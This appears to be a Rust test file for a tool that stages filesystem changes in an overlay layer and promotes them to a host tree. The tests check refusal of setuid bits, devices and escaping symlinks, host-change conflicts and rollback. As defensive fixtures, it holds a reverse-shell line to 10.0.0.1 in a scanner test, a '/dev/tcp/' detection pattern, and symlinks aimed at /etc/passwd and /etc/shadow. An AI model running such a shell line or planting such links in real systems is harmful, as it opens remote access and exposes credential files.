//! Change-set decoding and promotion on hand-made upper layers: the
//! overlay's whiteout and opaque forms, and the promotion's own checks with
//! the change set's `unsafe_reason` taken away (each layer on its own).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use crate::{capture, choose, promote, Change, Kind, Op, Policy, Selection, Stage, Store};

struct T {
    target: tempfile::TempDir,
    _state: tempfile::TempDir,
    stage: Stage,
}

fn write(p: &Path, text: &str, mode: u32) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A host tree with `files`, and a stage over it whose run starts now.
fn setup(files: &[(&str, &str)]) -> T {
    setup_in(crate::MODE_OVERLAY, files)
}

fn setup_in(mode: &str, files: &[(&str, &str)]) -> T {
    let target = tempfile::tempdir().unwrap();
    for (p, text) in files {
        write(&target.path().join(p), text, 0o644);
    }
    std::thread::sleep(std::time::Duration::from_millis(20));
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path().join("stage"));
    let stage = store
        .create(
            "0123abcd",
            target.path(),
            mode,
            vec!["test".into()],
            Policy::default(),
        )
        .unwrap();
    T {
        target,
        _state: state,
        stage,
    }
}

impl T {
    fn upper(&self, rel: &str) -> std::path::PathBuf {
        self.stage.upper().join(rel)
    }

    fn whiteout(&self, rel: &str) {
        let (dir, name) = rel.rsplit_once('/').unwrap_or(("", rel));
        let d = self.upper(dir);
        std::fs::create_dir_all(&d).unwrap();
        let fd = rustix::fs::open(
            &d,
            rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::DIRECTORY,
            rustix::fs::Mode::empty(),
        )
        .unwrap();
        rustix::fs::mknodat(
            &fd,
            name,
            rustix::fs::FileType::CharacterDevice,
            rustix::fs::Mode::empty(),
            0,
        )
        .unwrap();
    }

    fn find(&self, set: &crate::ChangeSet, path: &str, op: Op) -> Change {
        set.entries
            .iter()
            .find(|e| e.path == path && e.op == op)
            .cloned()
            .unwrap_or_else(|| panic!("{path} {op:?} in {:#?}", set.entries))
    }
}

#[test]
fn decodes_whiteouts_and_opaque_directories() {
    let t = setup(&[
        ("mod.txt", "old\n"),
        ("del.txt", "bye\n"),
        ("xwo.txt", "x\n"),
        ("opq/old1", "1\n"),
        ("opq/sub/old2", "2\n"),
        ("same.txt", "same\n"),
    ]);
    write(&t.upper("mod.txt"), "new\n", 0o644);
    t.whiteout("del.txt");
    // The xattr form of a whiteout (Linux 6.7+).
    write(&t.upper("xwo.txt"), "", 0o644);
    rustix::fs::setxattr(
        t.upper("xwo.txt"),
        "user.overlay.whiteout",
        b"",
        rustix::fs::XattrFlags::empty(),
    )
    .unwrap();
    std::fs::create_dir(t.upper("opq")).unwrap();
    rustix::fs::setxattr(
        t.upper("opq"),
        "user.overlay.opaque",
        b"y",
        rustix::fs::XattrFlags::empty(),
    )
    .unwrap();
    write(&t.upper("opq/fresh"), "f\n", 0o644);
    // A copy-up without a change is not a change.
    write(&t.upper("same.txt"), "same\n", 0o644);

    let set = capture(&t.stage).unwrap();
    let m = t.find(&set, "mod.txt", Op::Modified);
    assert_eq!(
        m.base.as_ref().unwrap().hash.as_deref(),
        Some(crate::fsutil::hash_bytes(b"old\n").as_str())
    );
    assert_eq!(
        m.hash.as_deref(),
        Some(crate::fsutil::hash_bytes(b"new\n").as_str())
    );
    t.find(&set, "del.txt", Op::Deleted);
    t.find(&set, "xwo.txt", Op::Deleted);
    t.find(&set, "opq/old1", Op::Deleted);
    t.find(&set, "opq/sub/old2", Op::Deleted);
    t.find(&set, "opq/sub", Op::Deleted);
    t.find(&set, "opq/fresh", Op::Added);
    assert_eq!(set.entries.len(), 7, "{:#?}", set.entries);
    assert!(set
        .entries
        .iter()
        .all(|e| e.base.as_ref().is_none_or(|b| !b.changed_during_run)));

    // Promote it all: the host tree now matches the upper layer.
    let (chosen, _) = choose(&t.stage, &set, &Selection::default(), &mut |_, _| false).unwrap();
    promote(&t.stage, chosen, Vec::new()).unwrap();
    let root = t.target.path();
    assert_eq!(
        std::fs::read_to_string(root.join("mod.txt")).unwrap(),
        "new\n"
    );
    assert!(!root.join("del.txt").exists() && !root.join("xwo.txt").exists());
    assert!(!root.join("opq/old1").exists() && !root.join("opq/sub").exists());
    assert_eq!(
        std::fs::read_to_string(root.join("opq/fresh")).unwrap(),
        "f\n"
    );
    let names: Vec<_> = std::fs::read_dir(root)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(
        names.len(),
        3,
        "no temporary or trash entries left: {names:?}"
    );
}

/// With the change set's refusal taken away, the promotion itself still
/// writes permission bits only: no setuid, setgid or sticky bit.
#[test]
fn promotion_never_sets_setuid_even_when_asked() {
    let t = setup(&[]);
    write(&t.upper("tool"), "#!/bin/sh\n", 0o755);
    std::fs::set_permissions(t.upper("tool"), std::fs::Permissions::from_mode(0o6755)).unwrap();
    let set = capture(&t.stage).unwrap();
    let mut e = t.find(&set, "tool", Op::Added);
    assert!(e.unsafe_reason.as_deref().unwrap().contains("setuid"));
    e.unsafe_reason = None;
    promote(&t.stage, vec![e], Vec::new()).unwrap();
    let mode = std::fs::metadata(t.target.path().join("tool"))
        .unwrap()
        .mode();
    assert_eq!(mode & 0o7777, 0o755);
}

/// With the change set's refusal taken away, a symlink out of the tree is
/// still not created, and nothing else of the call is applied.
#[test]
fn promotion_never_creates_an_escaping_symlink_even_when_asked() {
    let t = setup(&[]);
    std::os::unix::fs::symlink("../../etc/passwd", t.upper("esc")).unwrap();
    write(&t.upper("ok.txt"), "ok\n", 0o644);
    let set = capture(&t.stage).unwrap();
    let mut e = t.find(&set, "esc", Op::Added);
    assert!(e.unsafe_reason.is_some());
    e.unsafe_reason = None;
    let ok = t.find(&set, "ok.txt", Op::Added);
    let err = promote(&t.stage, vec![ok, e], Vec::new()).unwrap_err();
    assert!(err.to_string().contains("outside the tree"), "{err}");
    assert!(std::fs::symlink_metadata(t.target.path().join("esc")).is_err());
    assert!(!t.target.path().join("ok.txt").exists(), "rolled back");
}

/// A device entry (only a 0:0 one can exist in an upper layer made without
/// privileges, and that is a whiteout; this one is made up) is refused by
/// `choose` and by `promote` on its own.
#[test]
fn devices_are_never_promoted() {
    let t = setup(&[]);
    let dev = Change {
        path: "null".into(),
        op: Op::Added,
        kind: Kind::Device,
        size: Some(0),
        mode: Some(0o666),
        hash: None,
        link: None,
        base: None,
        unsafe_reason: crate::capture::unsafe_reason("null", Kind::Device, 0o666, None),
    };
    let set = crate::ChangeSet::new(
        "0123abcd".into(),
        t.target.path().into(),
        "overlay",
        vec![dev.clone()],
    );
    assert!(choose(&t.stage, &set, &Selection::default(), &mut |_, _| true).is_err());
    let mut bare = dev;
    bare.unsafe_reason = None;
    assert!(promote(&t.stage, vec![bare], Vec::new()).is_err());
    assert!(std::fs::symlink_metadata(t.target.path().join("null")).is_err());
}

/// A refusal names every entry that stops the promotion: the one that can
/// never be promoted and the one the policy holds back, in one message, and
/// nobody is asked about an entry when nothing will be promoted.
#[test]
fn a_refusal_names_every_blocker_at_once() {
    let t = setup(&[]);
    std::os::unix::fs::symlink("/etc/shadow", t.upper("link")).unwrap();
    write(&t.upper("run.sh"), "echo\n", 0o755);
    write(&t.upper("plain.txt"), "ok\n", 0o644);
    let set = capture(&t.stage).unwrap();
    let mut asked = 0;
    let err = choose(&t.stage, &set, &Selection::default(), &mut |_, _| {
        asked += 1;
        true
    })
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("link: the symlink points outside the tree"),
        "{err}"
    );
    assert!(
        err.contains("also holds back added run.sh") && err.contains("--allow new-executable"),
        "{err}"
    );
    assert!(!err.contains("plain.txt"), "{err}");
    assert_eq!(
        asked, 0,
        "asked about an entry of a promotion that cannot happen"
    );
}

/// A host entry changed after the run started is flagged at capture and
/// refused at promotion.
#[test]
fn host_change_during_the_run_is_a_conflict() {
    let t = setup(&[("a.txt", "a\n")]);
    write(&t.target.path().join("a.txt"), "host\n", 0o644);
    write(&t.upper("a.txt"), "run\n", 0o644);
    let set = capture(&t.stage).unwrap();
    let e = t.find(&set, "a.txt", Op::Modified);
    assert!(e.base.as_ref().unwrap().changed_during_run);
    let err = promote(&t.stage, vec![e], Vec::new()).unwrap_err();
    assert!(err.to_string().contains("while the run was going"), "{err}");
    assert_eq!(
        std::fs::read_to_string(t.target.path().join("a.txt")).unwrap(),
        "host\n"
    );
}

/// The scanner hook: a file the scanner flags is held back by rule
/// `scanner` (ask) unless allowed; others pass.
#[test]
fn scanner_findings_hold_a_file_back() {
    fn scanner(_path: &str, content: &[u8]) -> Vec<String> {
        if content.windows(9).any(|w| w == b"/dev/tcp/") {
            vec!["reverse shell".into()]
        } else {
            Vec::new()
        }
    }
    let t = setup(&[]);
    write(
        &t.upper("bad.sh"),
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
        0o644,
    );
    write(&t.upper("good.sh"), "echo hi\n", 0o644);
    let set = capture(&t.stage).unwrap();
    let mut sel = Selection {
        scanner: Some(scanner),
        ..Selection::default()
    };
    let err = choose(&t.stage, &set, &sel, &mut |_, _| false).unwrap_err();
    assert!(
        err.to_string().contains("bad.sh") && err.to_string().contains("--allow scanner"),
        "{err}"
    );
    assert!(!err.to_string().contains("good.sh"), "{err}");
    sel.allow = vec!["scanner".into()];
    let (chosen, allowed) = choose(&t.stage, &set, &sel, &mut |_, _| false).unwrap();
    assert_eq!(chosen.len(), 2);
    assert_eq!(allowed, vec!["scanner".to_owned()]);
}

/// The copy fallback: the copy is the host tree (content, modes, mtimes,
/// symlinks); what the run did to it is read against the manifest, and a
/// host change to an entry the run left alone is no change of the run.
#[test]
fn copy_fallback_reads_the_copy_against_its_manifest() {
    let mut t = setup_in(
        crate::MODE_COPY,
        &[
            ("mod.txt", "old\n"),
            ("del.txt", "bye\n"),
            ("same.txt", "same\n"),
            ("chmod.sh", "echo\n"),
            ("d/inner.txt", "in\n"),
            ("host-edits.txt", "h\n"),
            ("host-deletes.txt", "h\n"),
        ],
    );
    let root = t.target.path();
    std::os::unix::fs::symlink("mod.txt", root.join("link")).unwrap();
    std::fs::set_permissions(root.join("d"), std::fs::Permissions::from_mode(0o750)).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    t.stage.meta.started_ns = crate::store::coarse_now_ns();
    let copied = crate::make_copy(&t.stage, 1 << 20).unwrap();
    assert_eq!(copied.entries, 9);
    for rel in ["mod.txt", "d", "d/inner.txt", "link", "chmod.sh"] {
        let (h, c) = (
            std::fs::symlink_metadata(root.join(rel)).unwrap(),
            std::fs::symlink_metadata(t.upper(rel)).unwrap(),
        );
        assert_eq!(
            (h.mode(), h.mtime(), h.mtime_nsec()),
            (c.mode(), c.mtime(), c.mtime_nsec()),
            "{rel}"
        );
    }
    assert_eq!(
        std::fs::read_link(t.upper("link")).unwrap(),
        Path::new("mod.txt")
    );

    // The run.
    write(&t.upper("mod.txt"), "new\n", 0o644);
    std::fs::remove_file(t.upper("del.txt")).unwrap();
    std::fs::write(t.upper("same.txt"), "same\n").unwrap(); // rewritten, same bytes
    std::fs::set_permissions(t.upper("chmod.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::rename(t.upper("d"), t.upper("d2")).unwrap();
    write(&t.upper("new/deep.txt"), "n\n", 0o644);
    // The host meanwhile.
    std::fs::write(root.join("host-edits.txt"), "edited on the host\n").unwrap();
    std::fs::remove_file(root.join("host-deletes.txt")).unwrap();

    let set = capture(&t.stage).unwrap();
    let m = t.find(&set, "mod.txt", Op::Modified);
    assert_eq!(
        m.base.as_ref().unwrap().hash.as_deref(),
        Some(crate::fsutil::hash_bytes(b"old\n").as_str())
    );
    t.find(&set, "del.txt", Op::Deleted);
    assert_eq!(t.find(&set, "chmod.sh", Op::Mode).mode, Some(0o755));
    t.find(&set, "d", Op::Deleted);
    t.find(&set, "d/inner.txt", Op::Deleted);
    assert_eq!(t.find(&set, "d2", Op::Added).mode, Some(0o750));
    t.find(&set, "d2/inner.txt", Op::Added);
    t.find(&set, "new", Op::Added);
    t.find(&set, "new/deep.txt", Op::Added);
    assert_eq!(set.entries.len(), 9, "{:#?}", set.entries);
    assert_eq!(set.mode, "copy");

    // Promote it all: the host tree now matches the copy, the host's own
    // edit stays.
    let sel = Selection {
        allow: vec!["new-executable".into()],
        ..Selection::default()
    };
    let (chosen, _) = choose(&t.stage, &set, &sel, &mut |_, _| false).unwrap();
    promote(&t.stage, chosen, Vec::new()).unwrap();
    assert_eq!(
        std::fs::read_to_string(root.join("mod.txt")).unwrap(),
        "new\n"
    );
    assert!(!root.join("del.txt").exists() && !root.join("d").exists());
    assert_eq!(
        std::fs::read_to_string(root.join("d2/inner.txt")).unwrap(),
        "in\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("host-edits.txt")).unwrap(),
        "edited on the host\n"
    );
    assert!(!root.join("host-deletes.txt").exists());
}

/// The copy fallback refuses a tree over the size cap, before the run.
#[test]
fn copy_fallback_refuses_a_tree_over_the_cap() {
    let t = setup_in(
        crate::MODE_COPY,
        &[("a.txt", "0123456789"), ("b.txt", "0123456789")],
    );
    let err = crate::make_copy(&t.stage, 15).unwrap_err().to_string();
    assert!(err.contains("max_size cap of 15 bytes"), "{err}");
}

/// Promotion moves the upper layer's own files into the tree (no copy):
/// their extended attributes do not come along, and when the promotion
/// fails after some were moved, they go back into the upper layer, so the
/// stage is whole and a later promotion applies them.
#[test]
fn moved_files_lose_xattrs_and_go_back_on_failure() {
    let t = setup(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
    write(&t.upper("a.txt"), "A\n", 0o644);
    write(&t.upper("b.txt"), "B\n", 0o644);
    rustix::fs::setxattr(
        t.upper("a.txt"),
        "user.planted",
        b"1",
        rustix::fs::XattrFlags::empty(),
    )
    .unwrap();
    let set = capture(&t.stage).unwrap();
    // b's staged content no longer matches the change set: the promotion
    // fails after a.txt was moved.
    write(&t.upper("b.txt"), "tampered\n", 0o644);
    let (chosen, _) = choose(&t.stage, &set, &Selection::default(), &mut |_, _| false).unwrap();
    let err = promote(&t.stage, chosen, Vec::new())
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("b.txt") && err.contains("changed after"),
        "{err}"
    );
    let root = t.target.path();
    assert_eq!(std::fs::read_to_string(root.join("a.txt")).unwrap(), "a\n");
    assert_eq!(
        std::fs::read_to_string(t.upper("a.txt")).unwrap(),
        "A\n",
        "moved back"
    );
    let names: Vec<_> = std::fs::read_dir(root)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(names.len(), 2, "no temporary entries left: {names:?}");

    write(&t.upper("b.txt"), "B\n", 0o644);
    let (chosen, _) = choose(&t.stage, &set, &Selection::default(), &mut |_, _| false).unwrap();
    promote(&t.stage, chosen, Vec::new()).unwrap();
    assert_eq!(std::fs::read_to_string(root.join("a.txt")).unwrap(), "A\n");
    assert_eq!(std::fs::read_to_string(root.join("b.txt")).unwrap(), "B\n");
    let mut buf = [0u8; 256];
    assert_eq!(
        rustix::fs::listxattr(root.join("a.txt"), &mut buf).unwrap(),
        0
    );
    assert!(!t.upper("a.txt").exists(), "moved, not copied");
}

/// A stage is listed once kept; one whose run never ended (no meta) is
/// pruned when it is older than the age limit, a young one is left alone.
#[test]
fn unkept_stages_are_pruned_by_age() {
    let target = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path().join("stage"));
    let make = |id: &str| {
        store
            .create(
                id,
                target.path(),
                crate::MODE_OVERLAY,
                vec![],
                Policy::default(),
            )
            .unwrap()
    };
    let old = make("0old");
    let young = make("0young");
    let kept = make("0kept");
    kept.keep().unwrap();
    assert_eq!(
        store.list().unwrap().len(),
        1,
        "only the kept stage is listed"
    );
    let day_ago = rustix::fs::Timespec {
        tv_sec: rustix::time::clock_gettime(rustix::time::ClockId::Realtime).tv_sec - 86_400,
        tv_nsec: 0,
    };
    rustix::fs::utimensat(
        rustix::fs::CWD,
        &old.dir,
        &rustix::fs::Timestamps {
            last_access: day_ago,
            last_modification: day_ago,
        },
        rustix::fs::AtFlags::empty(),
    )
    .unwrap();
    let removed = store.prune(std::time::Duration::from_secs(3600)).unwrap();
    assert_eq!(removed, ["0old"]);
    assert!(!old.dir.exists() && young.dir.exists() && kept.dir.exists());
}
